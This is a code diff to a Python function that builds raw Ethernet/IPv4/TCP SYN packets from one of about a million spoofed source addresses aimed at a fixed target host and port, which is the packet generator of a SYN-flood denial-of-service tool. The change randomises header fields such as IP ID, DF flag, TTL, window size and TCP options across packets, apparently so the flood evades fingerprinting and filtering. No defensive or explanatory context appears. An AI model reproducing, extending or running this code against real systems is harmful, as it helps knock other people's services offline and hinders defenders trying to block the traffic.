@@ -64,9 +64,17 @@ def request(mac: bytes, number: int) -> bytes:
     """A request for a TCP connection from a source that nobody has seen: one of 2^20 spoofed ones."""
     source = f"10.{number >> 16 & 15}.{number >> 8 & 255}.{number & 255}"
     addresses = socket.inet_aton(source) + socket.inet_aton(TARGET)
-    head = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + addresses
+    size = 20 + number % 3 * 4
+    head = struct.pack(
+        ">BBHHHBBH", 0x45, 0, 20 + size, number & 0xFFFF, 0x4000 * (number & 1), 40 + number % 25, 6, 0
+    )
+    head += addresses
     head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
-    tcp = struct.pack(">HHIIBBHHH", 1024 + number % 60000, PORT, number, 0, 0x50, 2, 64240, 0, 0)
+    ports = struct.pack(">HH", 1024 + number % 60000, PORT)
+    tcp = ports + struct.pack(
+        ">IIBBHHH", number * 7919 & 0xFFFFFFFF, 0, size << 2, 2, 1024 + number % 60000, 0, 0
+    )
+    tcp += b"\x02\x04\x05\xb4\x01\x01\x01\x00"[: size - 20]
     check = checksum(addresses + struct.pack(">HH", 6, len(tcp)) + tcp)
     return mac + b"\x02\0\0\0\0\x02\x08\0" + head + tcp[:16] + struct.pack(">H", check) + tcp[18:] + bytes(6)
 
